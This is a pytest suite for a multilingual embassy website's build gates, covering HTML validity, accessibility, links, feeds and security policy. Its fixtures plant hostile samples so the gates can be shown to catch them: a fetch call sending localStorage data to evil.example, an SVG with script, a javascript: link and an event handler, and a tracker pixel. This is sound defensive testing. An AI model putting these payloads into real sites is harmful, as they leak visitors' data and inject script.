"""Quality gates: the Nu HTML Checker, axe-core in Chromium, links and feed rules,
on every build; and proof that each gate fails on a deliberately broken page."""

import shutil

import pytest

from embassy.gates import BuiltSite, browser, feeds, files, html, links, security
from helpers import PRODUCTION_URL, ROOT, run_gate

SCREENSHOTS = ROOT / "artifacts" / "screenshots"
KEY_PAGES = [f"{lang}/{page}" for lang, pages in {
    "en": ["index.html", "news/eighty-years-of-diplomatic-relations/index.html",
           "agreements/index.html"],
    "es": ["index.html", "noticias/ochenta-anos-de-relaciones-diplomaticas/index.html",
           "tratados/index.html"],
    "fr": ["index.html", "nouvelles/quatre-vingts-ans-de-relations-diplomatiques/index.html",
           "accords/index.html"],
}.items() for page in pages] + ["index.html"]


def test_every_page_passes_the_nu_html_checker(site):
    count, errors = run_gate(html.check, site)
    assert count == len(site.html_files()) + len(site.editor_files())
    assert [site.relative(path) for path in site.editor_files()] == ["admin/index.html"]
    assert not errors, "\n".join(errors)


def test_every_feed_follows_the_feed_validator_rules(site):
    count, problems = feeds.check(site)
    assert count == 18
    assert not problems, "\n".join(problems)


@pytest.mark.slow
@pytest.mark.usefixtures("chromium")  # the session's Chromium: see conftest.py
def test_every_page_type_is_accessible_in_a_real_browser(paginated_site):
    """axe-core (WCAG 2.0/2.1 A and AA) at 375px and 1280px, light and dark, reflow at 320px,
    the skip link and the language switcher by keyboard; screenshots saved."""
    pages = browser.representative_pages(paginated_site)
    types = {(paginated_site.page_type(path), paginated_site.lang(path)) for path in pages}
    expected = {"home", "news", "article", "category", "archives", "not-found", "search",
                "page", "agreements", "about", "chronology"}
    assert {page_type for page_type, _lang in types} == expected | {"chooser", "root-not-found",
                                                                    "redirect"}
    shutil.rmtree(SCREENSHOTS, ignore_errors=True)
    views, problems = run_gate(browser.check, paginated_site, screenshots=SCREENSHOTS,
                               screenshot_pages=KEY_PAGES)
    assert views >= 4 * len(pages)  # two widths, light and dark
    assert not problems, "\n".join(problems)
    assert len(list(SCREENSHOTS.glob("*.png"))) == 4 * len(KEY_PAGES)


@pytest.mark.usefixtures("chromium")  # the session's Chromium: see conftest.py
def test_browser_gate_checks_a_page_that_sends_the_reader_on_as_it_shows(prod_site):
    """A page at one of the former site's addresses opens its new page at once (a
    refresh); the gate holds that off to check the page itself, and only that."""
    def shown(site):
        with browser.browser() as chromium:
            session = browser.BrowserSession(site, chromium)
            tab = session.new_page(375)
            session.visit(tab, site.root / "ES" / "es_bilaterales.html")
            tab.wait_for_timeout(500)  # a refresh after 0 s would have happened by now
            moved = (tab.url, tab.text_content("h1"))
            session.visit(tab, site.root / "es" / "index.html")
            return moved, tab.url

    (url, heading), then = run_gate(shown, prod_site)
    assert (url, heading) == (f"{PRODUCTION_URL}/ES/es_bilaterales.html",
                              "Esta página cambió de dirección")
    assert then == f"{PRODUCTION_URL}/es/"


@pytest.mark.usefixtures("chromium")  # the session's Chromium: see conftest.py
def test_browser_gate_checks_the_dark_scheme_too(dev_site, tmp_path, monkeypatch):
    """A colour that fails only in the reader's dark scheme stops the gate."""
    root = tmp_path / "output"
    shutil.copytree(dev_site.root, root)
    for css in root.glob("theme/css/site.*.css"):
        css.write_text(css.read_text(encoding="utf-8").replace(
            "--epc-text:#e8e6e3", "--epc-text:#3a3a3a"), encoding="utf-8")
    home = root / "en" / "index.html"
    monkeypatch.setattr(browser, "representative_pages", lambda site: [home])
    _views, problems = run_gate(browser.check, BuiltSite(root, ""))
    assert problems and all(" dark: color-contrast" in problem for problem in problems), problems


@pytest.fixture(scope="module")
def broken_site(dev_site, tmp_path_factory):
    """A copy of the built site with one broken page and one broken feed."""
    root = tmp_path_factory.mktemp("broken") / "output"
    shutil.copytree(dev_site.root, root)
    page = root / "en" / "index.html"
    page.write_text(page.read_text(encoding="utf-8").replace(
        "</main>",
        '<img src="/en/missing.png"><a href="#nowhere">x</a>'
        '<svg width="2000" height="10"></svg><p><p></main><div><main></main>'
        '<script>alert(1)</script><p style="color:red" onclick="x()">x</p>'
        '<img alt="tracker" src="https://tracker.example/pixel.gif">', 1),
        encoding="utf-8")
    feed = root / "en" / "feeds" / "all.atom.xml"
    feed.write_text(feed.read_text(encoding="utf-8").replace(' rel="self"', "", 1),
                    encoding="utf-8")
    planted = root / "media" / "news" / "eighty-years-of-relations"  # what Pelican once copied
    planted.mkdir(parents=True)
    (planted / "plant.svg").write_text(PLANTED_SVG, encoding="utf-8")
    (planted / "plant.js").write_text("fetch('//evil.example/?' + localStorage.length)")
    (root / "en" / "old.htm").write_text("<p onclick=x()>x", encoding="utf-8")
    return BuiltSite(root, "")


PLANTED_SVG = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
               '<script>alert(localStorage.length)</script><a xlink:href="javascript:alert(1)">'
               '<rect width="9" height="9" onload="alert(2)"/></a></svg>')


def test_only_files_the_site_publishes_are_in_every_build(site):
    count, problems = files.check(site)
    assert count > len(site.html_files())
    assert not problems, "\n".join(problems)


def test_files_gate_names_every_file_the_site_does_not_publish(broken_site):
    _count, problems = files.check(broken_site)
    assert problems == [
        "en/old.htm: not a kind of file the site publishes there",
        "media/news/eighty-years-of-relations/plant.js: not a kind of file the site publishes "
        "there",
        "media/news/eighty-years-of-relations/plant.svg: not a kind of file the site publishes "
        "there"]


def test_security_gate_reads_every_document_a_browser_would_open(broken_site):
    _count, problems = security.check(broken_site)
    svg = "media/news/eighty-years-of-relations/plant.svg"
    assert {f"{svg}: a <script> element", f"{svg}: a javascript: address in href= on <a>",
            f"{svg}: an event handler (onload) on <rect>",
            "en/old.htm: an event handler (onclick) on <p>"} <= set(problems)


def test_no_page_has_inline_code_or_third_party_resources(site):
    count, problems = security.check(site)
    assert count == len(site.html_files()) + len(site.editor_files()) + len(site.xml_documents())
    assert {site.relative(path).split("/")[0] for path in site.xml_documents()} >= {
        "theme", "en", "sitemap.xml"}  # the icon, the feeds, the sitemap
    assert not problems, "\n".join(problems)


def test_security_gate_holds_the_editor_to_its_own_policy(tmp_path, dev_site):
    shutil.copytree(dev_site.root, tmp_path / "site")
    page = tmp_path / "site" / "admin" / "index.html"
    page.write_text(page.read_text(encoding="utf-8").replace(
        "script-src 'self';", "script-src 'self' 'unsafe-eval';").replace(
        '<meta name="robots" content="noindex">', ""), encoding="utf-8")
    _count, problems = security.check(BuiltSite(tmp_path / "site", ""))
    assert problems == [
        "admin/index.html: its policy's script-src is [\"'self'\", \"'unsafe-eval'\"], "
        "not only 'self'",
        "admin/index.html: no <meta name=\"robots\" content=\"noindex\">"]


def test_security_gate_fails_on_a_broken_page(broken_site):
    _count, problems = security.check(broken_site)
    home = [problem for problem in problems if problem.startswith("en/index.html")]
    assert "en/index.html: an inline script" in home
    assert "en/index.html: a style attribute on <p>" in home
    assert "en/index.html: an event handler (onclick) on <p>" in home
    assert "en/index.html: <img> loads https://tracker.example/pixel.gif from another host" in home


def test_nu_checker_fails_on_a_broken_page(broken_site):
    _count, errors = run_gate(html.check, broken_site)
    assert any(error.startswith("en/index.html") for error in errors)
    assert any(error.startswith("en/old.htm") for error in errors)  # HTML by any name


def test_link_gate_fails_on_a_broken_page(broken_site):
    _count, problems = links.check(broken_site)
    assert any("/en/missing.png" in problem for problem in problems)
    assert any("'nowhere'" in problem for problem in problems)


def test_feed_gate_fails_on_a_broken_feed(broken_site):
    _count, problems = feeds.check(broken_site)
    assert any("en/feeds/all.atom.xml: the self link" in problem for problem in problems)


@pytest.mark.usefixtures("chromium")  # the session's Chromium: see conftest.py
def test_browser_gate_fails_on_a_broken_page(broken_site, monkeypatch):
    home = broken_site.root / "en" / "index.html"
    monkeypatch.setattr(browser, "representative_pages", lambda site: [home])
    _views, problems = run_gate(browser.check, broken_site)
    assert any("image-alt" in problem for problem in problems)
    assert any("scrolls sideways" in problem for problem in problems)
    # the page's own policy refuses the third-party image before any request leaves
    assert any("tracker.example" in problem and "Content Security Policy" in problem
               for problem in problems)
    assert any("inline" in problem and "Content Security Policy" in problem
               for problem in problems)


def test_check_reports_each_gate_and_fails_on_problems(broken_site, dev_site, monkeypatch):
    from embassy import gates

    monkeypatch.setattr(gates, "GATES", {name: gate for name, gate in gates.GATES.items()
                                         if "Links" in name or "Feeds" in name})  # the fast ones
    lines = []
    assert gates.run(broken_site.root, out=lines.append) is False
    assert any(line.startswith("  FAIL  Links") for line in lines)
    assert any("/en/missing.png" in line for line in lines)
    lines.clear()
    assert gates.run(dev_site.root, out=lines.append) is True
    assert [line.split(":")[0].strip() for line in lines[1:]] == [
        "ok    Links, assets and #fragments", "ok    Feeds (W3C Feed Validator rules)"]


@pytest.mark.parametrize("siteurl", [PRODUCTION_URL, "https://owner.github.io/embassy"])
@pytest.mark.usefixtures("chromium")  # the session's Chromium: see conftest.py
def test_browser_gate_opens_a_production_page_at_its_own_address(tmp_path, monkeypatch, siteurl,
                                                                prod_site):
    """The published files are checked under their real origin and path, with their own
    policy: the page passes as built, and fails once it breaks its policy. At
    PRODUCTION_URL, the session's production build is that build (copied: the test
    breaks a page); under a project path, a build of its own."""
    from helpers import run_build

    output = tmp_path / "output"
    if siteurl == prod_site.siteurl:
        shutil.copytree(prod_site.root, output)
    else:
        result = run_build("publishconf.py", output, siteurl=siteurl)
        assert result.returncode == 0, result.stderr
    site = BuiltSite(output, siteurl)
    home = output / "en" / "index.html"
    monkeypatch.setattr(browser, "representative_pages", lambda site: [home])
    _views, problems = run_gate(browser.check, site)
    assert problems == []

    home.write_text(home.read_text(encoding="utf-8").replace(
        "<main", '<main style="outline: 1px solid red"', 1), encoding="utf-8")
    _views, problems = run_gate(browser.check, BuiltSite(output, siteurl))
    assert any(problem.startswith(f"browser console: {siteurl}/en/")
               and "inline style" in problem and "Content Security Policy" in problem
               for problem in problems), problems


@pytest.mark.usefixtures("chromium")  # the session's Chromium: see conftest.py
def test_webassembly_runs_on_the_search_pages_only(prod_site):
    """Pagefind needs 'wasm-unsafe-eval'; every other page's own policy refuses it."""
    # the smallest WebAssembly module: its magic number and version
    compile_wasm = """() => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))
        .then(() => "compiled", error => error.name)"""

    def outcome(session, tab, path):
        session.visit(tab, prod_site.root / path)
        return tab.evaluate(compile_wasm)

    def check(site):
        with browser.browser() as chromium:
            session = browser.BrowserSession(site, chromium)
            tab = session.new_page(1280)
            return {path: outcome(session, tab, path) for path in
                    ("en/search/index.html", "es/buscar/index.html", "en/index.html",
                     "fr/accords/index.html")}, session.console_errors

    results, _console = run_gate(check, prod_site)
    assert results["en/search/index.html"] == results["es/buscar/index.html"] == "compiled"
    assert results["en/index.html"] == results["fr/accords/index.html"] == "CompileError"
